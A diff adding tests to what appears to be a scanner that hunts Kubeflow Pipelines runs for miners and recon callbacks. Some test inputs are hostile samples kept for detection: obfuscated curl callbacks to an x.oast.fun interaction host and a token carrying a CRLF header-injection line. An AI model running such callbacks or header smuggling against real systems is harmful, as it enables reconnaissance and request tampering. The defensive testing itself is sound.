@@ -119,7 +119,55 @@ describe('kfguard hunt --kfp: what a run was started with', () => {
   });
 });
 
+describe('kfguard hunt --kfp: specs in every shape the server returns', () => {
+  const workflowOf = (cmd: string) => JSON.parse(genericWorkflow(cmd)) as Record<string, unknown>;
+
+  test('a v2beta1 run whose pipeline_spec is the Argo workflow of a run made through v1beta1 is judged', async () => {
+    const api = await serve(kfpV2Routes({ pipelines: [], runs: [{ run_id: 'run-v1-made', display_name: 'x', pipeline_spec: workflowOf(MINER) }], recurringRuns: [], experiments: [] }));
+    const report = json((await runCli(['hunt', '--kfp', api.url, '--format', 'json'])).stdout);
+    assert.deepEqual(minerIds(report), ['run-v1-made']);
+  });
+
+  test('a v1 manifest without kind or apiVersion is read as the Workflow KFP 1.x unmarshals it into', async () => {
+    const bare = workflowOf(MINER);
+    delete bare.kind;
+    delete bare.apiVersion;
+    const api = await serve(kfpV1Routes({ pipelines: [], runs: [{ id: 'r-bare', name: 'bare', pipeline_spec: { workflow_manifest: JSON.stringify(bare) } }], jobs: [], experiments: [] }));
+    const report = json((await runCli(['hunt', '--kfp', api.url, '--format', 'json'])).stdout);
+    assert.deepEqual(minerIds(report), ['r-bare']);
+  });
+
+  test('a spec that is there but unreadable, and a version fetch that fails, are said once per run and asked once', async () => {
+    const api = await serve(
+      kfpV2Routes({
+        pipelines: [{ pipeline_id: 'pl-1', display_name: 'p' }],
+        versions: { 'pl-1': [] },
+        runs: [
+          { run_id: 'run-odd', display_name: 'odd', pipeline_spec: { something: 'else' } },
+          ...['a', 'b', 'c'].map((x) => ({ run_id: `run-${x}`, display_name: x, pipeline_version_reference: { pipeline_id: 'pl-1', pipeline_version_id: 'gone' } })),
+        ],
+        recurringRuns: [],
+        experiments: [],
+      }),
+    );
+    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
+    assert.equal(run.code, 2);
+    assert.match(run.stderr, /run run-odd: its pipeline spec is neither a KFP pipeline \(IR\) nor an Argo workflow: not judged/);
+    for (const x of ['a', 'b', 'c']) assert.match(run.stderr, new RegExp(`run run-${x} runs pipeline version gone of pipeline pl-1`));
+    assert.equal(api.requests.filter((r) => r.path.startsWith('/apis/v2beta1/pipelines/pl-1/versions/gone')).length, 1);
+  });
+});
+
 describe('kfguard hunt: credentials and refusals', () => {
+  test('a token holding a line break is refused before anything is sent, and never shown', async () => {
+    const api = await serve(kfpV2Routes({}));
+    const run = await runCli(['hunt', '--kfp', api.url, '--token', 'Bearer s3cr3t-value\r\nX-Evil: 1']);
+    assert.equal(run.code, 2);
+    assert.match(run.stderr, /--token holds a line break or control character/);
+    assert.doesNotMatch(run.stdout + run.stderr, /s3cr3t/);
+    assert.equal(api.requests.length, 0);
+  });
+
   test('a token given as "Bearer …" is sent once; a refused token is named as refused', async () => {
     const api = await serve(kfpV2Routes({}), { token: 'right-token' });
     const ok = await runCli(['hunt', '--kfp', api.url, '--token', 'Bearer right-token', '--format', 'json']);
@@ -142,6 +190,13 @@ describe('the recon callback check reads what the threat scanner decodes', () =>
     assert.deepEqual(reconHostsOf({ entrypoint: `python -c "import os; os.system('curl x.'+'oast'+'.fun')"` }).hosts.map((h) => h.host), ['x.oast.fun']);
     assert.deepEqual(reconHostsOf({ entrypoint: `curl "x."'oast'".fun"` }).hosts.map((h) => h.host), ['x.oast.fun']);
     assert.deepEqual(reconHostsOf({ entrypoint: 'python train.py', runtime_env: { env_vars: { A: b64('just some training config') } } }).hosts, []);
+  });
+
+  test('a host is read back from the listed domain over at most 253 characters of labels', () => {
+    const long = `${'a.'.repeat(60_000)}x.oast.fun`;
+    const [host] = reconHostsOf({ entrypoint: long }).hosts;
+    assert.ok(host?.host.endsWith('.x.oast.fun') && host.host.length <= 253 + 'oast.fun'.length, host?.host.slice(0, 40));
+    assert.deepEqual(reconHostsOf({ entrypoint: 'curl https://ceye.io.example.com/ https://notoast.fun/' }).hosts, []);
   });
 
   test('nine layers: the reading says where it stopped instead of passing quietly', () => {
